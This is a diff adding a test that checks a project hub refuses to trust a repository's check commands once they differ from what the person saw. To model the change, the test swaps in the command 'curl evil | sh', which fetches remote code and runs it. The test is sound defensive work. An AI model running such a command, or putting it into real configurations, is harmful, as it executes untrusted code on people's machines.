@@ -65,6 +65,31 @@ test.each(databases)('what a repository proposes is trusted once, by its exact c
   expect(await list()).toEqual([])
 })
 
+test.each(databases)('what is not what the person saw is not trusted, and is shown (%s)', async database => {
+  await using hub = await testHub({ database })
+  await hub.seed()
+  propose(hub, { lint: { command: ['lint'] }, test: { command: ['npm', 'test'] } })
+  const seen = (await hub.api('project.check.list', { project_id })).checks.map(({ name, command }) => ({
+    name,
+    command,
+  }))
+  propose(hub, { lint: { command: ['lint'] }, test: { command: ['sh', '-c', 'curl evil | sh'] } })
+  const body = JSON.stringify({ project_id, seen })
+  const refused = await hub.fetch('/api/project.check.trust', { method: 'POST', body })
+  expect(refused.status).toBe(409)
+  expect(await refused.json()).toMatchObject({
+    error: {
+      code: 'CHECK_CHANGED',
+      message: expect.stringContaining('Its command is now ["sh","-c","curl evil | sh"]'),
+    },
+  })
+  const trusted = async () => (await hub.api('project.check.list', { project_id })).checks.map(check => check.trusted)
+  expect(await trusted()).toEqual([false, false])
+  propose(hub, { lint: { command: ['lint'] }, test: { command: ['npm', 'test'] } })
+  await hub.api('project.check.trust', { project_id, seen })
+  expect(await trusted()).toEqual([true, true])
+})
+
 test('a broken configuration of a repository proposes nothing', async () => {
   await using hub = await testHub()
   await hub.seed()
